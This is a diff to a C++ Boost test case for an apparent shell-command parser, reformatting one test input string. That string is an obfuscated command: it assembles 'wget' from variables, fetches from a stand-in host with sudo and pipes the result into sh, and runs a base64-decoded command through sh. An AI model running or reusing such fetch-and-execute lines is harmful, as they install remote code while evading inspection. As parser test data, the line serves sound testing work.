@@ -95,7 +95,8 @@ BOOST_AUTO_TEST_CASE(memory_is_kept_from_reading_to_reading) {
     auto const programs = program_table::shipped();
     walker reads(*programs);
     reading result;
-    std::string const line = "a=wg; b=et; for i in 1 2; do sudo $a$b \"http://h/$i\" | sh; done; echo d2dldCB1 | base64 -d | sh";
+    std::string const line =
+        "a=wg; b=et; for i in 1 2; do sudo $a$b \"http://h/$i\" | sh; done; echo d2dldCB1 | base64 -d | sh";
     reads.read(line, 0, result);
     auto const commands = result.commands.capacity();
     auto const words = result.words.capacity();
